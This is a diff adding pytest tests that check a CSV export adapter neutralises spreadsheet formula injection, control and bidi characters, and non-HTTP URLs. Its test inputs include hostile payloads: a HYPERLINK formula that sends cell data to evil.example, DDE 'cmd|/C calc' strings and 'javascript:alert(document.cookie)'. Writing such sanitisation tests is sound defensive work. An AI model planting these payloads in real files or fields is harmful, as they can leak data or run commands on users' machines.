@@ -102,3 +102,47 @@ def test_a_full_disk_is_a_retryable_dispatch_error(tmp_path: Path) -> None:
     assert result.get("error") == "DispatchError" and result["retryable"] is True, result
     assert len(rows(path)) == 1
 
+
+
+@pytest.mark.parametrize("hostile", [
+    '=HYPERLINK("http://evil.example/?d="&A1,"click")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "  =1+1", "\uff1d1+1",
+])
+def test_formula_cells_are_written_as_text(tmp_path: Path, hostile: str) -> None:
+    adapter(tmp_path).deliver(job(1, customer_name=hostile, mention_author=hostile, note=hostile))
+    row = rows(tmp_path / "warehouse.csv")[0]
+    for column in ("customer_name", "mention_author", "note"):
+        cell = row[column]
+        assert cell.startswith("'"), (column, cell)
+        assert "\t" not in cell and "\r" not in cell, (column, cell)
+    assert row["amount"] == "17.00"
+
+
+def test_control_and_bidi_characters_and_line_breaks_are_stripped(tmp_path: Path) -> None:
+    name = "Cora\r\nX,Y\u202egnp.exe\u2066\x00\x1b[31m\ufeff"
+    adapter(tmp_path).deliver(job(1, customer_name=name, note="Hello\r\nCora\u202e\x07"))
+    got = rows(tmp_path / "warehouse.csv")
+    assert len(got) == 1
+    assert got[0]["customer_name"] == "Cora X,Ygnp.exe[31m"
+    assert got[0]["note"] == "Hello\nCora"  # the note keeps its line breaks, normalised
+
+
+@pytest.mark.parametrize("url", ["javascript:alert(document.cookie)", " JaVaScRiPt:alert(1)", "data:text/html,x",
+                                 "java\u200bscript:alert(1)", "vbscript:msgbox(1)"])
+def test_a_non_http_mention_url_is_kept_out_of_the_file(tmp_path: Path, url: str) -> None:
+    adapter(tmp_path).deliver(job(1, mention_url=url))
+    assert rows(tmp_path / "warehouse.csv")[0]["mention_url"] == ""
+
+
+def test_plain_http_urls_and_negative_numbers_are_untouched(tmp_path: Path) -> None:
+    adapter(tmp_path).deliver(job(1, mention_url="https://shop.example/p?a=1&b=-2", customer_name="-5.00"))
+    row = rows(tmp_path / "warehouse.csv")[0]
+    assert row["mention_url"] == "https://shop.example/p?a=1&b=-2" and row["customer_name"] == "-5.00"
+
+
+def test_a_bare_social_handle_is_left_readable_but_not_one_with_a_formula(tmp_path: Path) -> None:
+    adapter(tmp_path).deliver(job(1, mention_author="@ann@mastodon.example", customer_name="@jugless"))
+    adapter(tmp_path).deliver(job(2, mention_author="@x(1)", customer_name="@a+b"))
+    first, second = rows(tmp_path / "warehouse.csv")
+    assert (first["mention_author"], first["customer_name"]) == ("@ann@mastodon.example", "@jugless")
+    assert (second["mention_author"], second["customer_name"]) == ("'@x(1)", "'@a+b")
